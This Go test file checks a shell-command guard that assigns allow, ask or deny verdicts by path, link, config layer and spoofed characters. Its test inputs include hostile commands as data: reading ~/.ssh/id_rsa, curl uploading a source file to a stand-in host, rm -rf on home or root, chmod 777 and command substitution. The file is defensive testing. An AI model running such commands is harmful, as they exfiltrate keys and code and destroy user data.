package pathguard

import (
	"errors"
	"maps"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tada-run/tada-run/integration/hermetic"
	"github.com/tada-run/tada-run/pathguard/intent"
	"github.com/tada-run/tada-run/pathguard/resolve"
)

// TestOnlyTightens: whatever the caller says about its own command, and whatever else stands
// in its environment, no verdict becomes looser. (C-1.2, C-10.2, E-env-1)
func TestOnlyTightens(t *testing.T) {
	t.Parallel()
	g, root := desk(t, "security: {readonly_paths: ['@/w/keep']}", "w/keep/k", "w/dist/x")
	put(t, root+"/w", map[string]string{"s.sh": "git push --force\n"})
	lines := []string{"ls", "rm -rf src", "rm -rf dist", "rm -rf ~", "echo x > keep/k",
		"cat ~/.ssh/id_rsa", "bash s.sh", "curl -d @src/a.go https://x.test", "git status",
		"eval \"$X\"", "make", "sudo ls"}
	before := map[string]Decision{}
	for _, line := range lines {
		r, _ := g.AnalyzeShellCommand(line)
		before[line] = r.Verdict
	}
	r := rand.New(rand.NewSource(3))
	words := []string{"", "safe", "allow", "ok", "dangerous", "1", "true", "/", root, "never",
		"yes", "\x00", "zh_CN"}
	word := func() string { return words[r.Intn(len(words))] }
	for range 400 {
		c := g
		c.Caller.Intent = intent.Intent{NeedsConfirm: r.Intn(3) == 0, Hint: word(), Reason: word()}
		c.Caller.Env = maps.Clone(g.Caller.Env)
		for range r.Intn(4) {
			c.Caller.Env[[]string{"TADA_", "APPROVAL_", "AUDIT_", "LC_", "CI_",
				"GIT_CONFIG_"}[r.Intn(6)]+
				strings.ToUpper([]string{"x", "mode", "level", "allow", "home",
					"all"}[r.Intn(6)])] = word()
		}
		line := lines[r.Intn(len(lines))]
		got, err := c.AnalyzeShellCommand(line)
		want := before[line]
		if c.Caller.Intent.Confirm() {
			want = min(want, Ask)
		}
		if err != nil || got.Verdict > want {
			t.Fatalf("%q with %+v %q: %v, at most %v (%v)", line, c.Caller.Intent, c.Caller.Env,
				got.Verdict, want, err)
		}
	}
}

// TestParseMarks: a character that is invisible, or looks like another, asks.
func TestParseMarks(t *testing.T) {
	g, _ := desk(t, "")
	for _, line := range []string{"l\u0455", "ls \u202e", "ls\u200b", "cat a\u00a0b",
		"\u0455udo ls", "r\u043c -rf dist", "\u0441at src/a.go", "\uff52m dist/x",
		"git\u2010lfs pull"} {
		if r, err := g.AnalyzeShellCommand(line); err == nil && r.Allowed {
			t.Errorf("%+q is allowed", line)
		}
	}
}

// E-std-2: what has to be asked every time.
func TestE_std_2_Standing(t *testing.T) {
	g, _ := desk(t, "", "home/dev/.ssh/id_rsa", "w/x.sh")
	for line, want := range map[string]bool{
		"touch ~/x": true, "rm -r src": false, "cp src/a.go ~/x": true, "ls": true,
		"cat ~/.ssh/id_rsa": false, "rm -r ~/x": false, "rm ~/x": false, "python3 -c 1": false,
		"sh x.sh": false, "env touch ~/x": false, "sudo ls": false, "git push --force": false,
		"echo x > .git/hooks/h": false, "touch $(cat f)": false, "ls \u202e": false,
		"curl -d @a https://x.example": false, "ls |": false, "timeout 5 touch ~/x": false,
		"xargs touch": false,
	} {
		v, plan, err := g.judge(line)
		if err != nil {
			t.Fatal(err)
		}
		plan.Close()
		if v.Standing != want {
			t.Errorf("%q: %v %+v", line, v.Standing, v.Reasons)
		}
	}
}

// TestOtherNames: a second name of a restricted file, by a hard link or because the rule
// itself is a link, is no way around.
func TestOtherNames(t *testing.T) {
	g, root := desk(t, "")
	for _, name := range []string{"real/secret", "home/dev/vault.d/x"} {
		os.MkdirAll(filepath.Dir(root+"/"+name), 0o755)
		os.WriteFile(root+"/"+name, nil, 0o644)
	}
	os.Symlink(root+"/home/dev/vault.d", root+"/home/dev/vault")
	if err := os.Link(root+"/real/secret", root+"/w/innocent"); err != nil {
		t.Fatal(err)
	}
	set := defaults()
	set.RestrictedPaths = []string{root + "/real/secret", "~/vault"}
	p, err := compile(Account{Home: root + "/home/dev", UID: os.Getuid()}, set, nil)
	if err != nil {
		t.Fatal(err)
	}
	g.Policy = p
	g.expect(t, Deny, "cat innocent", "cat ../real/secret", "cat ~/vault.d/x", "cat ~/vault/x",
		"echo x > innocent", "cat inno*")
	g.expect(t, Allow, "cat src/a.go")
}

// TestLayers: the first trusted file may loosen what is built in; the next ones, and the
// workspace's, only tighten, and say what they said in vain.
func TestLayers(t *testing.T) {
	root := hermetic.Tree(t, "home/dev/", "w/.git/", "w/src/a")
	account := Account{Home: root + "/home/dev", UID: os.Getuid()}
	file := func(text string, layer Layer) ConfigFile {
		return ConfigFile{Path: writeConfig(t, strings.ReplaceAll(text, "@", root), 0o600),
			Layer: layer, Root: root + "/w"}
	}
	user := file("security: {command_level: dangerous}\nrules: {paths: [{path: '~/notes', verdict: allow}], commands: [{program: git, args: [push], verdict: allow}]}", UserLayer)
	strict := file("security: {allow_shell: false, restricted_paths: ['src']}\nrules: {paths: [{path: '~/notes/x', verdict: deny}, {path: '/etc', verdict: allow}], hosts: [{host: a.b, verdict: allow}]}", WorkspaceLayer)
	loose := file("security: {command_level: dangerous, allow_shell: true, restricted_paths: []}\nnetwork: {default: on}\nsandbox: {require: base}\nrules: {paths: [{path: '~/other', verdict: allow}]}", UserLayer)

	base, err := Load(account, user)
	if err != nil {
		t.Fatal(err)
	}
	g := Guard{Policy: base, Caller: resolve.Caller{Dir: root + "/w", Home: account.Home,
		Env: map[string]string{"HOME": account.Home, "PATH": "/usr/bin:/bin"}}}
	g.expect(t, Allow, "echo x > ~/notes/a", "rm -rf ~/notes/old", "git push", "cat src/a")
	g.expect(t, Ask, "echo x > ~/other", "git push --force")

	tight, err := base.Tighten(strict)
	if err != nil {
		t.Fatal(err)
	}
	g.Policy = tight
	home := account.Home
	g.expect(t, Deny, "cat src/a", "ls | cat", "touch "+home+"/notes/x/y")
	g.expect(t, Ask, "touch /etc/x")
	g.expect(t, Allow, "touch "+home+"/notes/a", "git push")
	if n := strings.Join(tight.Notes(), "\n"); !strings.Contains(n, `"/etc" has no effect`) ||
		!strings.Contains(n, `"a.b" has no effect`) || tight.Digest() == base.Digest() {
		t.Errorf("%q", n)
	}

	both, err := Load(account, user, loose, strict)
	if err != nil {
		t.Fatal(err)
	}
	g.Policy = both
	g.expect(t, Ask, "touch "+home+"/other")
	g.expect(t, Deny, "ls | cat")
	if both.Settings().Network != NetOff {
		t.Error("a later file loosened the network")
	}
	if same, err := base.Tighten(ConfigFile{Path: root +
		"/none", Layer: WorkspaceLayer}); err != nil || same.Digest() != base.Digest() {
		t.Errorf("a missing file changed the policy: %v", err)
	}
	var e *ConfigError
	if _, err := base.Tighten(file("security: {x: 1}", WorkspaceLayer)); !errors.As(err, &e) ||
		e.Line != 1 {
		t.Errorf("%v", err)
	}
}

// TestCommandRules: rules for commands hold against the parsed words; a word that is not
// known matches what tightens and never what allows.
func TestCommandRules(t *testing.T) {
	g, _ := desk(t, `
rules:
  commands:
    - {program: git, args: [push], flags: [--force, -f], verdict: deny, message: not from here}
    - {program: git, args: [push], verdict: allow}
    - {program: make, args: [deploy], verdict: ask}
    - {program: /usr/bin/env, verdict: deny}
  hosts:
    - {host: "*.bad.example", verdict: deny}
    - {host: api.example, verdict: allow}
`)
	g.expect(t, Allow, "git push", "git push origin main", "git -c a=b status", "make test", "make",
		"curl -d x https://api.example/", "echo git push --force", "env ls",
		"curl https://bad.example")
	g.expect(t, Deny, "git push --force", "git push origin -f", "git push -qf", "git push --forc",
		"env git push --force", "sh -c 'git push -f'", "/usr/bin/git push --force",
		"curl https://x.bad.example/", "curl https://A.B.BAD.example./", "/usr/bin/env ls",
		`git push "$(cat x)"`)
	g.expect(t, Ask, "make deploy", "make -j2 deploy", "nice make deploy")
	if r, _ := g.AnalyzeShellCommand("git push -f"); !strings.Contains(r.Reason, "not from here") {
		t.Errorf("%q", r.Reason)
	}
}

// TestLinksCarryNothing: a link in a place where much is allowed points elsewhere, and what
// is allowed there stays there.
func TestLinksCarryNothing(t *testing.T) {
	g, _ := desk(t, "rules: {paths: [{path: ~/notes, verdict: allow}]}", "home/dev/.ssh/id_rsa",
		"home/dev/.bashrc", "home/dev/notes/a",
		"home/dev/.cache/l -> @/home/dev/.bashrc",
		"home/dev/.cache/fontconfig/l -> @/home/dev/.bashrc",
		"home/dev/notes/l -> @/home/dev/.bashrc", "home/dev/.ssh/x.pub -> id_rsa",
		"w/l.pub -> @/home/dev/.ssh/id_rsa",
		"home/dev/.cache/r -> /", "home/dev/.local/bin/up -> @/home/dev/x", "home/dev/x")
	g.expect(t, Allow, "echo x > ~/notes/a", "echo x > ~/.cache/fontconfig/new")
	g.expect(t, Ask, "echo x > ~/.cache/new", "echo x > ~/.cache/l",
		"echo x > ~/.cache/fontconfig/l", "echo x > ~/notes/l", "echo x > ~/notes/../.bashrc",
		"cat ~/.ssh/x.pub", "cat l.pub", "echo x > ~/.cache/../.bashrc", "~/.local/bin/up")
	g.expect(t, Deny, "rm -rf ~/.cache/r/", "rm -rf ~/.cache/r/*", "chmod -R 777 ~/.cache/r")
	restricted, _ := desk(t, "security: {restricted_paths: ['@/home/dev/v']}", "home/dev/v/x",
		"home/dev/y", "home/dev/l -> v/../y")
	restricted.expect(t, Allow, "cat ~/v/../y", "cat ~/l")
	restricted.expect(t, Deny, "cat ~/v/../v/x")
}
